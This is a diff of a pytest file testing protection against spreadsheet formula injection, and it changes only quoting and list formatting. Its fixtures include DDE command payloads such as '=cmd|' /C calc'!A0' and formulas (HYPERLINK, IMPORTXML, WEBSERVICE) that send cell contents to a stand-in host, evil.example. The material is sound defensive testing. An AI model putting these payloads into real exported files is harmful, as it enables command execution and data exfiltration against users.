@@ -15,7 +15,7 @@ FORMULAS = [
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example?x="&A1,"Click")',
     '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
-    "=WEBSERVICE(\"http://evil.example\")",
+    '=WEBSERVICE("http://evil.example")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -42,7 +42,7 @@ def read(chunk: bytes) -> list[list[str]]:
 
 def begins_a_formula(cell: str) -> bool:
     """As the most careless program would see it: whatever nobody sees, and quotes, skipped."""
-    visible = cell.lstrip(" \t\r\n\x00\u200b\ufeff\u00a0\u3000\u2066\"`")
+    visible = cell.lstrip(' \t\r\n\x00\u200b\ufeff\u00a0\u3000\u2066"`')
     return visible[:1] in set("=+-@|%\uff1d\uff0b\uff0d\uff20\u2212") and visible != ""
 
 
@@ -68,7 +68,16 @@ def test_none_does_where_a_program_splits_cells_elsewhere(separator: str, formul
 
 @pytest.mark.parametrize(
     "text",
-    ["Jane Doe", "Jürgen “Jo” Müller", "jane+tea@example.com", "O'Brien", "Anne-Marie", "3 = three", "", "李雷"],
+    [
+        "Jane Doe",
+        "Jürgen “Jo” Müller",
+        "jane+tea@example.com",
+        "O'Brien",
+        "Anne-Marie",
+        "3 = three",
+        "",
+        "李雷",
+    ],
 )
 def test_plain_texts_stay_as_they_are(text: str) -> None:
     assert read(spreadsheets.line((text,))) == [[text]]
